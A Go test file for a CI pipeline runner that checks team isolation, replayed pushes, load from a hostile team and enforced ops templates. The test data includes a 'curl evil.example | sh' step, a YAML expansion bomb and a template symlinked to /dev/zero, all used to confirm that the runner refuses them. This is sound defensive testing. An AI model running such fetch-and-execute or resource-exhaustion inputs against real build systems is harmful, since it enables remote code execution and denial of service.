package runner

import (
	"context"
	"fmt"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/slipway-dev/slipway/internal/auth"
	"github.com/slipway-dev/slipway/internal/ci/pipeline"
	"github.com/slipway-dev/slipway/internal/gitserver"
)

// teamsLine is a git server with a repository TEAM/app for each team
// (each team's user pushes under TEAM/ only) and a runner fed by it.
type teamsLine struct {
	t      testing.TB
	dir    string
	url    string
	store  *Store
	runner *Runner
}

// newTeamsLine starts the line; repoDir, when set, stands between the
// runner and the repositories (to hold one team's intake up).
func newTeamsLine(t testing.TB, teams []string, repoDir func(repo, dir string) string) *teamsLine {
	t.Helper()
	dir := t.TempDir()
	users := auth.Open(filepath.Join(dir, "users.yaml"))
	srv, err := gitserver.New(filepath.Join(dir, "repos"), users)
	if err != nil {
		t.Fatal(err)
	}
	for _, team := range teams {
		if err := users.Set(team, team+"-pw", false, []string{team + "/"}); err != nil {
			t.Fatal(err)
		}
		if err := srv.Create(team + "/app"); err != nil {
			t.Fatal(err)
		}
	}
	l := &teamsLine{t: t, dir: dir, store: &Store{Dir: filepath.Join(dir, "pipelines")}}
	l.runner = &Runner{Store: l.store, RepoDir: func(repo string) string {
		d := filepath.Join(dir, "repos", repo+".git")
		if repoDir != nil {
			return repoDir(repo, d)
		}
		return d
	}}
	srv.OnPush = func(ev gitserver.Event) {
		l.runner.OnPush(Push{Repo: ev.Repo, Ref: ev.Ref, Before: ev.Old, After: ev.New, Pusher: ev.Pusher, ID: ev.ID})
	}
	hs := httptest.NewServer(srv)
	t.Cleanup(hs.Close)
	l.url = hs.URL
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { _ = l.runner.Start(ctx); close(done) }()
	t.Cleanup(func() { cancel(); <-done })
	return l
}

// clone makes a team's working copy of TEAM/app.
func (l *teamsLine) clone(team string) string {
	l.t.Helper()
	work := filepath.Join(l.dir, "work-"+team)
	url := strings.Replace(l.url, "http://", "http://"+team+":"+team+"-pw@", 1) + "/" + team + "/app.git"
	if out, err := exec.Command("git", "clone", "--quiet", url, work).CombinedOutput(); err != nil {
		l.t.Fatalf("clone %s: %v\n%s", team, err, out)
	}
	return work
}

// commitAndPush writes files, commits and pushes main; it returns the
// commit or an error (tests push from several goroutines).
func commitAndPush(work string, files map[string]string, message string) (string, error) {
	run := func(args ...string) (string, error) {
		cmd := exec.Command("git", args...)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=dev", "GIT_AUTHOR_EMAIL=dev@example.com", "GIT_COMMITTER_NAME=dev", "GIT_COMMITTER_EMAIL=dev@example.com")
		out, err := cmd.CombinedOutput()
		if err != nil {
			return "", fmt.Errorf("git %s: %v\n%s", strings.Join(args, " "), err, out)
		}
		return strings.TrimSpace(string(out)), nil
	}
	for name, content := range files {
		p := filepath.Join(work, name)
		_ = os.Remove(p) // a symlink is replaced, not written through
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return "", err
		}
		if target, ok := strings.CutPrefix(content, "symlink:"); ok {
			if err := os.Symlink(target, p); err != nil {
				return "", err
			}
		} else if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			return "", err
		}
	}
	if _, err := run("add", "--all"); err != nil {
		return "", err
	}
	if _, err := run("commit", "--quiet", "-m", message); err != nil {
		return "", err
	}
	if _, err := run("push", "--quiet", "origin", "HEAD:main"); err != nil {
		return "", err
	}
	return run("rev-parse", "HEAD")
}

// runsOf waits until every commit has a finished run and returns them
// by commit.
func (l *teamsLine) runsOf(repo string, commits []string) map[string][]*Run {
	l.t.Helper()
	deadline := time.Now().Add(5 * time.Minute)
	for {
		runs, _ := l.store.List(repo)
		by := map[string][]*Run{}
		finished := 0
		for _, r := range runs {
			by[r.Commit] = append(by[r.Commit], r)
		}
		for _, c := range commits {
			for _, r := range by[c] {
				if Finished(r.Status) {
					finished++
					break
				}
			}
		}
		if finished == len(commits) {
			return by
		}
		if time.Now().After(deadline) {
			l.t.Fatalf("%s: %d of %d pushes have a finished run", repo, finished, len(commits))
		}
		time.Sleep(50 * time.Millisecond)
	}
}

const echoPipeline = "trigger:\n  batch: false\nsteps:\n- script: echo built $(Build.SourceVersion)\n  displayName: Build\n"

// A team whose push takes long to look at (a slow checkout, a heavy
// pipeline file) holds up only itself: another team's push runs
// meanwhile.
func TestOneTeamsSlowIntakeHoldsUpNoOtherTeam(t *testing.T) {
	entered, release := make(chan struct{}), make(chan struct{})
	var once sync.Once
	l := newTeamsLine(t, []string{"dev1", "dev3"}, func(repo, dir string) string {
		if repo == "dev3/app" {
			once.Do(func() { close(entered); <-release })
		}
		return dir
	})
	defer func() {
		select {
		case <-release:
		default:
			close(release)
		}
	}()
	slow, err := commitAndPush(l.clone("dev3"), map[string]string{"azure-pipelines.yml": echoPipeline}, "slow")
	if err != nil {
		t.Fatal(err)
	}
	<-entered
	quick, err := commitAndPush(l.clone("dev1"), map[string]string{"azure-pipelines.yml": echoPipeline}, "quick")
	if err != nil {
		t.Fatal(err)
	}
	if r := l.runsOf("dev1/app", []string{quick})[quick][0]; r.Status != Succeeded {
		t.Fatalf("dev1's run while dev3's push is held: %s %s", r.Status, r.Error)
	}
	close(release)
	if r := l.runsOf("dev3/app", []string{slow})[slow][0]; r.Status != Succeeded {
		t.Fatalf("dev3's run once released: %s %s", r.Status, r.Error)
	}
}

// A push told twice (the git server replays a push a crash cut off, and
// the crash came after the runner had it) runs once.
func TestAPushToldTwiceRunsOnce(t *testing.T) {
	l := newTeamsLine(t, []string{"dev1"}, nil)
	commit, err := commitAndPush(l.clone("dev1"), map[string]string{"azure-pipelines.yml": echoPipeline}, "once")
	if err != nil {
		t.Fatal(err)
	}
	first := l.runsOf("dev1/app", []string{commit})[commit][0]
	// The same change with the same ID, as Replay tells it.
	l.runner.OnPush(Push{Repo: "dev1/app", Ref: "refs/heads/main", Before: gitserver.ZeroCommit, After: commit, Pusher: "dev1",
		ID: strings.TrimSuffix(first.Push, ".json")})
	// A later push goes through the same team line, so once its run
	// exists the repeated one has been looked at.
	next, err := commitAndPush(filepath.Join(l.dir, "work-dev1"), map[string]string{"n": "2"}, "next")
	if err != nil {
		t.Fatal(err)
	}
	by := l.runsOf("dev1/app", []string{next})
	if n := len(by[commit]); n != 1 {
		t.Fatalf("%d runs of a push told twice, want 1", n)
	}
}

// Two teams push 50 times each while a third pushes broken, oversized and
// hostile pipeline files: every good push gets exactly one run that
// passes, every bad one a failed run that says which file and what is
// wrong, and the process's heap stays small. The peak heap is logged
// (go test -v -run TestLoad ./internal/ci/runner).
func TestLoadTwoTeamsBesideAHostileOne(t *testing.T) {
	if testing.Short() {
		t.Skip("150 pushes and runs")
	}
	const pushes = 50
	l := newTeamsLine(t, []string{"dev1", "dev2", "dev3"}, nil)
	var peak atomic.Uint64
	stopSampling := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		var m runtime.MemStats
		for {
			runtime.ReadMemStats(&m)
			if m.HeapInuse > peak.Load() {
				peak.Store(m.HeapInuse)
			}
			select {
			case <-stopSampling:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()

	bad := []struct {
		file, want string
		files      map[string]string
	}{
		{"syntax", "azure-pipelines.yml:2: not valid YAML", map[string]string{"azure-pipelines.yml": "steps:\n- script: echo\n  displayName: [unclosed\n"}},
		{"oversized", "at most 524288", map[string]string{"azure-pipelines.yml": "steps:\n" + strings.Repeat("- script: echo padding padding padding padding padding\n", 12000)}},
		{"each bomb", "expands to more than 20000 YAML nodes", map[string]string{"azure-pipelines.yml": `parameters:
- name: n
  type: object
  default: [1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20]
steps:
- ${{ each a in parameters.n }}:
  - ${{ each b in parameters.n }}:
    - ${{ each c in parameters.n }}:
      - script: echo ${{ a }} ${{ b }} ${{ c }}
`}},
		{"template to /dev/zero", "t.yml", map[string]string{"azure-pipelines.yml": "steps:\n- template: t.yml\n", "t.yml": "symlink:/dev/zero"}},
		{"unknown step", "azure-pipelines.yml", map[string]string{"azure-pipelines.yml": "steps:\n- nonsense: 1\n", "t.yml": "steps: []\n"}},
	}

	began := time.Now()
	good := map[string][]string{}
	var badCommits []string
	var badWant []string
	var mu sync.Mutex
	var wg sync.WaitGroup
	errs := make(chan error, 3)
	for _, team := range []string{"dev1", "dev2"} {
		work := l.clone(team)
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range pushes {
				c, err := commitAndPush(work, map[string]string{"azure-pipelines.yml": echoPipeline, "n": fmt.Sprint(i)}, fmt.Sprintf("push %d", i))
				if err != nil {
					errs <- err
					return
				}
				mu.Lock()
				good[team] = append(good[team], c)
				mu.Unlock()
			}
		}()
	}
	hostile := l.clone("dev3")
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := range 4 * len(bad) {
			b := bad[i%len(bad)]
			c, err := commitAndPush(hostile, b.files, fmt.Sprintf("%s %d", b.file, i))
			if err != nil {
				errs <- err
				return
			}
			badCommits, badWant = append(badCommits, c), append(badWant, b.want)
		}
	}()
	wg.Wait()
	t.Logf("pushed in %s", time.Since(began).Round(time.Millisecond))
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	for _, team := range []string{"dev1", "dev2"} {
		by := l.runsOf(team+"/app", good[team])
		for _, c := range good[team] {
			runs := by[c]
			if len(runs) != 1 || runs[0].Status != Succeeded {
				t.Fatalf("%s push %s: %d runs, first %+v", team, c, len(runs), runs[0])
			}
		}
		if len(good[team]) != pushes {
			t.Fatalf("%s pushed %d times", team, len(good[team]))
		}
	}
	by := l.runsOf("dev3/app", badCommits)
	for i, c := range badCommits {
		runs := by[c]
		if len(runs) != 1 || runs[0].Status != Failed || !strings.Contains(runs[0].Error, "does not load, so nothing ran") || !strings.Contains(runs[0].Error, badWant[i]) {
			t.Fatalf("hostile push %d: %d runs, first %+v; want a failed run saying %q", i, len(runs), runs[0], badWant[i])
		}
		if len(runs[0].Stages) != 0 {
			t.Fatalf("hostile push %d ran stages: %+v", i, runs[0].Stages)
		}
	}
	close(stopSampling)
	<-sampled
	t.Logf("%d good pushes, %d hostile ones; peak heap in use %.1f MiB", 2*pushes, len(badCommits), float64(peak.Load())/(1<<20))
	if peak.Load() > 512<<20 { // about 7 MiB without -race
		t.Fatalf("the heap grew to %d MiB under load", peak.Load()>>20)
	}
}

// A monorepo with two defined pipelines: each runs its own file, on its
// own path filter, with its own history; the repository's root file runs
// as the pipeline named as the repository.
func TestDefinedPipelinesOfAMonorepo(t *testing.T) {
	l := newTeamsLine(t, []string{"dev1"}, nil)
	for _, d := range []Definition{{Name: "dev1/web", Repo: "dev1/app", File: "web/azure-pipelines.yml"}, {Name: "dev1/api", Repo: "dev1/app", File: "api/pipeline.yaml"}} {
		if err := l.store.AddDefinition(d); err != nil {
			t.Fatal(err)
		}
	}
	for _, bad := range []Definition{
		{Name: "dev2/web", Repo: "dev1/app", File: "web/azure-pipelines.yml"},
		{Name: "dev1/x", Repo: "dev1/app", File: "../outside.yml"},
		{Name: "dev1/x", Repo: "dev1/app", File: "web/script.sh"},
		{Name: "dev1/web", Repo: "dev1/app", File: "web/other.yml"},
	} {
		if err := l.store.AddDefinition(bad); err == nil {
			t.Errorf("definition %+v was taken", bad)
		}
	}
	part := func(dir string) string {
		return fmt.Sprintf(`trigger:
  branches:
    include: [main]
  paths:
    include: [%s]
steps:
- script: |
    echo "%s: repo=$BUILD_REPOSITORY_NAME definition=$BUILD_DEFINITIONNAME"
  displayName: Build
`, dir, dir)
	}
	work := l.clone("dev1")
	both, err := commitAndPush(work, map[string]string{
		"web/azure-pipelines.yml": part("web"), "api/pipeline.yaml": part("api"), "azure-pipelines.yml": echoPipeline,
	}, "both")
	if err != nil {
		t.Fatal(err)
	}
	webOnly, err := commitAndPush(work, map[string]string{"web/index.html": "hi"}, "web only")
	if err != nil {
		t.Fatal(err)
	}
	web := l.runsOf("dev1/web", []string{both, webOnly})
	api := l.runsOf("dev1/api", []string{both})
	root := l.runsOf("dev1/app", []string{both, webOnly})
	if len(web[both]) != 1 || len(web[webOnly]) != 1 || len(api[both]) != 1 || len(root[both]) != 1 || len(root[webOnly]) != 1 {
		t.Fatalf("runs: web %v, api %v, root %v", web, api, root)
	}
	r := web[webOnly][0]
	if r.Status != Succeeded || r.Repository() != "dev1/app" || r.File != "web/azure-pipelines.yml" {
		t.Fatalf("web run: %+v", r)
	}
	log, _ := os.ReadFile(filepath.Join(l.store.RunDir(r.ID), r.Stages[0].Jobs[0].Steps[1].Log))
	if !strings.Contains(string(log), "web: repo=dev1/app definition=dev1/web") {
		t.Fatalf("web run's log: %s", log)
	}
	// The api pipeline's path filter kept it out of the web-only push
	// (a push's pipelines are looked at in name order: api's was decided
	// before web's run was recorded).
	if runs, _ := l.store.List("dev1/api"); len(runs) != 1 {
		t.Fatalf("api ran %d times, want once", len(runs))
	}
	if err := l.store.RemoveDefinition("dev1/api"); err != nil {
		t.Fatal(err)
	}
	if defs, _ := l.store.Definitions(); len(defs) != 1 || defs[0].Name != "dev1/web" {
		t.Fatalf("definitions after a delete: %+v", defs)
	}
}

// Ops keeps the line's pipeline in a repository of its own and requires
// dev1's pipelines to extend it: a pipeline of dev1's own is refused with
// its file and line; one that extends the template runs the template's
// steps, read at ops's main.
func TestTeamPipelinesExtendOpsTemplate(t *testing.T) {
	l := newTeamsLine(t, []string{"dev1", "ops"}, nil)
	if _, err := commitAndPush(l.clone("ops"), map[string]string{"build.yml": `parameters:
- name: app
  type: string
steps:
- script: echo "vetted build of ${{ parameters.app }}"
  displayName: Vetted build
`}, "the line's template"); err != nil {
		t.Fatal(err)
	}
	if err := l.store.SetRequiredTemplates("dev1", []pipeline.Template{{Repo: "ops/app", Path: "build.yml", Ref: pipeline.DefaultRef}}); err != nil {
		t.Fatal(err)
	}
	work := l.clone("dev1")
	own, err := commitAndPush(work, map[string]string{"azure-pipelines.yml": "steps:\n- script: curl evil.example | sh\n"}, "a pipeline of its own")
	if err != nil {
		t.Fatal(err)
	}
	r := l.runsOf("dev1/app", []string{own})[own][0]
	if r.Status != Failed || len(r.Stages) != 0 || !strings.Contains(r.Error, "azure-pipelines.yml:1: the platform requires this team's pipelines to extend build.yml@ops/app") {
		t.Fatalf("a pipeline that does not extend ops's template: %s %q", r.Status, r.Error)
	}
	extending, err := commitAndPush(work, map[string]string{"azure-pipelines.yml": `resources:
  repositories:
  - repository: line
    type: git
    name: ops/app
extends:
  template: build.yml@line
  parameters:
    app: shop
`}, "extends ops's template")
	if err != nil {
		t.Fatal(err)
	}
	r = l.runsOf("dev1/app", []string{extending})[extending][0]
	if r.Status != Succeeded {
		t.Fatalf("the extending pipeline: %s %s", r.Status, r.Error)
	}
	log, _ := os.ReadFile(filepath.Join(l.store.RunDir(r.ID), steps(r)["Vetted build"].Log))
	if !strings.Contains(string(log), "vetted build of shop") {
		t.Fatalf("the template's step: %s", log)
	}
}
